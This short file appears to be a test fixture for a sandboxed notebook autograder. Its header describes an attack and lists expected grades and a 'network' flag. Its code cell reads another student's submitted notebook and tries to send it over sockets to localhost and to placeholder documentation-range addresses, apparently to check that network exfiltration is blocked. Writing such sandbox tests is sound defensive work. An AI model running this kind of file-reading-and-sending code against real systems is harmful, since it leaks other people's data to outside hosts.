# attack: Sends what it can read to a machine in the network.
# gain: read
# expect: q01=3 q02=3 q03=3
# flag: network

# %% after q01
import socket

for address in (("127.0.0.1", 47110), ("203.0.113.9", 80), ("2001:db8::9", 80)):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(open("{COURSE}/submitted/other-student/hostile/hostile.ipynb", "rb").read())
    except OSError as error:
        print(address, error)
